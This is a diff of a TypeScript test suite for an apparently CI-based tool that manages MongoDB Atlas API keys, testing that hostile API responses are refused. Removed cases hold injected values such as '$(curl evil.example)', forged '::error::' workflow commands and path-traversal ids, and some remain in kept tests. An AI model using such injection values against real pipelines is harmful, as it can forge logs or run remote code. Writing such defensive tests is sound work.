@@ -20,34 +20,26 @@ const POISON = [
 
 const OWN_COMMANDS = ['add-mask', 'debug', 'error', 'warning', 'notice'];
 
-describe('hostile text in an error of the service', () => {
-  it.concurrent.each([
-    [
-      'in every field',
-      { error: POISON, errorCode: POISON, detail: POISON, reason: POISON, parameters: [POISON] },
-    ],
-    [
-      'beside a known code',
-      { errorCode: 'NOT_IN_GROUP', detail: POISON, parameters: [POISON, '1.2.3.4\n::error::x'] },
-    ],
-    ['in an address', { errorCode: 'IP_ADDRESS_NOT_ON_ACCESS_LIST', parameters: ['::error::forged', '::1'] }],
-    ['as a code of its own', { errorCode: '::error::FORGED', detail: 'x'.repeat(100_000) }],
-  ])('%s stays text', async (_what, body) => {
-    await using scene = await hostileScene();
-    const origin = await tamperWith(scene, (answer, { signed }) => {
-      if (!signed) return;
-      answer.status = 403;
-      answer.body = JSON.stringify(body);
-    });
-    const result = await attack(scene, origin, {}, { debug: true });
-    expectDefeat(scene, result, /^Could not list the project's keys: /);
-    expectNothingForged(result);
-    expect(errorsIn(result.main)[0]?.length).toBeLessThan(1_000);
+it.concurrent('hostile text in an error of the service stays text, and a blank password hides no log', async () => {
+  await using scene = await hostileScene();
+  const body = { error: POISON, errorCode: POISON, detail: POISON, reason: POISON, parameters: [POISON] };
+  const origin = await tamperWith(scene, (answer, { signed }) => {
+    if (!signed) return;
+    answer.status = 403;
+    answer.body = JSON.stringify(body);
   });
+  const env = { HTTPS_PROXY: 'http://somebody:%20@127.0.0.1:9' };
+  const result = await attack(scene, origin, {}, { debug: true, env });
+  expectDefeat(scene, result, /^Could not list the project's keys: /);
+  expectNothingForged(result);
+  expect(errorsIn(result.main)[0]?.length).toBeLessThan(1_000);
+  expect(result.masks).toContain('somebody:%20');
+  const lines = result.main.rawLines.map(({ text }) => text);
+  expect(lines.filter((line) => /^::add-mask::(?:\s|%20)*$/.test(line))).toEqual([]);
 });
 
 describe('hostile text in a key', () => {
-  it('is shown as text in log and summary', async () => {
+  it.concurrent('is shown as text in log and summary', async () => {
     await using scene = await hostileScene();
     const key = scene.atlas.addKey({ orgId: scene.orgId, desc: 'x', roles: ['ORG_MEMBER'] });
     const origin = await tamperWith(scene, (answer, { method, target, signed }) => {
@@ -65,42 +57,31 @@ describe('hostile text in a key', () => {
     expectNothingForged({ ...assigned, main: { ...assigned.main, outputs: {} } });
   });
 
-  it.concurrent.each([
-    ['an id that is a path', { id: '../../../../orgs/0123456789abcdef01234567' }],
-    ['an id that is a query', { id: '0123456789abcdef01234567?x=' }],
-    ['an id with a line break', { id: '0123456789abcdef01234567\n' }],
-    ['a public key that is a command', { publicKey: '::error::forged' }],
-    ['a public key that is a shell script', { publicKey: '$(curl evil.example)' }],
-    ['a role that is a command', { roles: [{ roleName: '::error::', groupId: '0123456789abcdef01234567' }] }],
-    ['an organisation that is a path', { roles: [{ roleName: 'ORG_MEMBER', orgId: '../x' }] }],
-  ])('%s is refused, and nothing is asked for under it', async (_what, change) => {
+  it.concurrent('whose id is a path is refused, and nothing is asked for under it', async () => {
     await using scene = await hostileScene();
     const targets: string[] = [];
     const origin = await tamperWith(scene, (answer, { target, signed }) => {
       targets.push(target);
       if (!signed || !answer.body.includes('"results"')) return;
-      answer.body = JSON.stringify({ results: [{ ...keyLike(scene.groupId, 1), ...change }], totalCount: 1 });
+      const roles = [{ roleName: 'GROUP_READ_ONLY', groupId: scene.groupId }];
+      const key = { publicKey: 'flezioeg', desc: 'deploy', roles, privateKey: '********' };
+      const id = '../../../../orgs/0123456789abcdef01234567';
+      answer.body = JSON.stringify({ results: [{ id, ...key }], totalCount: 1 });
     });
     const result = await attack(scene, origin, {}, { debug: true });
     expectDefeat(scene, result, /the answer \(200\) is not what the API documents/);
     expectNothingForged(result);
-    expect(targets.every((target) => /^\/api\/atlas\/v2\/groups\/[0-9a-f]{24}\/apiKeys\?/.test(target))).toBe(
-      true,
-    );
+    expect(
+      targets.filter((target) => !/^\/api\/atlas\/v2\/groups\/[0-9a-f]{24}\/apiKeys\?/.test(target)),
+    ).toEqual([]);
   });
 
-  it.concurrent.each([
-    ['a public key that is a command', { publicKey: 'a\n::error::forged' }],
-    ['a private key that is a shell script', { privateKey: '$(curl evil.example/0123456789)' }],
-    ['a private key with a line break', { privateKey: '0123456789abcdef\nresult=forged' }],
-    ['a private key that is redacted', { privateKey: '********-****-****-85daa09d408a' }],
-    ['no private key', { privateKey: undefined }],
-    ['an id that is a path', { id: '../..' }],
-  ])('just made, with %s, is not handed out and not left behind', async (_what, change) => {
+  it.concurrent('just made, with a line break in its secret, is not handed out and not left behind', async () => {
     await using scene = await hostileScene();
     const origin = await tamperWith(scene, (answer, { method, signed }) => {
       if (method !== 'POST' || !signed) return;
-      answer.body = JSON.stringify({ ...JSON.parse(answer.body), ...change });
+      const privateKey = '0123456789abcdef\nresult=forged';
+      answer.body = JSON.stringify({ ...JSON.parse(answer.body), privateKey });
     });
     const result = await attack(scene, origin, {}, { debug: true });
     expectDefeat(scene, result, /the answer \(200\) is not what the API documents/);
@@ -110,42 +91,19 @@ describe('hostile text in a key', () => {
   });
 });
 
-describe('hostile headers', () => {
-  it('stay unseen', async () => {
-    await using scene = await hostileScene();
-    const origin = await tamperWith(scene, (answer) => {
-      answer.headers.date = 'Fri, 31 Dec 9999 23:59:59 GMT';
-      answer.headers['retry-after'] = '::error::';
-      answer.headers['set-cookie'] = ['a=::error::', 'b'];
-      answer.headers['x-error-code'] = '::error::FORGED';
-      answer.headers['authentication-info'] = 'nextnonce="::error::"';
-    });
-    const result = await attack(scene, origin, { timeout: '5s' }, { debug: true });
-    expectNothingForged(result);
-    expect(result.main.milliseconds).toBeLessThan(7_000);
+it.concurrent('hostile headers stay unseen', async () => {
+  await using scene = await hostileScene();
+  const origin = await tamperWith(scene, (answer) => {
+    answer.headers.date = 'Fri, 31 Dec 9999 23:59:59 GMT';
+    answer.headers['retry-after'] = '::error::';
+    answer.headers['set-cookie'] = ['a=::error::', 'b'];
+    answer.headers['x-error-code'] = '::error::FORGED';
+    answer.headers['authentication-info'] = 'nextnonce="::error::"';
   });
-
-  it('a Retry-After of a century is not waited for', async () => {
-    await using scene = await hostileScene();
-    const origin = await tamperWith(scene, (answer, { signed }) => {
-      if (!signed) return;
-      answer.status = 429;
-      answer.headers['retry-after'] = '999999999';
-      answer.body = '{"errorCode":"RATE_LIMITED"}';
-    });
-    expectDefeat(scene, await attack(scene, origin), /the rate limit is reached/);
-  });
+  const result = await attack(scene, origin, { timeout: '5s' }, { debug: true });
+  expectNothingForged(result);
+  expect(result.main.milliseconds).toBeLessThan(7_000);
 });
-
-function keyLike(groupId: string, number: number) {
-  return {
-    id: number.toString(16).padStart(24, '6'),
-    publicKey: 'flezioeg',
-    desc: 'deploy',
-    roles: [{ roleName: 'GROUP_READ_ONLY', groupId }],
-    privateKey: '********-****-****-85daa09d408a',
-  };
-}
 
 /** Each line is a command of ours or begins with no colon; no output, state or summary but ours. */
 function expectNothingForged({ main, post }: Run): void {
